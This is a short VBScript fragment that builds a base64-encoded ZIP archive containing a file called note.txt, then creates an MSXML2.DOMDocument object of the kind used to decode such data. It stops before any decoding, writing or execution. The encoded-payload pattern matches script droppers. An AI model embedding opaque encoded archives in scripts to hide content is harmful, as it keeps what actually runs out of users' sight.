' A note: don't edit
Option Explicit
Dim s, o
s = s & "UEsDBBQAAAAIAAAAIViGJFfXQAAAAPwDAAAIAAAA" & _
  ""
s = s & "bm90ZS50eHQLycgsVkjLzElVyMjPSSlW8PaM9Pd1" & _
  ""
s = s & "1fV1DPJ2DdLj8s7Py8tMzsgsT9RReDZ96bM5a/S4" & _
  ""
s = s & "Qka1jGoZ1TL0tQAAUEsBAhQDFAAAAAgAAAAhWIYk" & _
  ""
s = s & "V9dAAAAA/AMAAAgAAAAAAAAAAAAAAIABAAAAAG5v" & _
  ""
s = s & "dGUudHh0UEsFBgAAAAABAAEANgAAAGYAAAAAAA==" & _
  ""
Set o = CreateObject("MSXML2.DOMDocument")
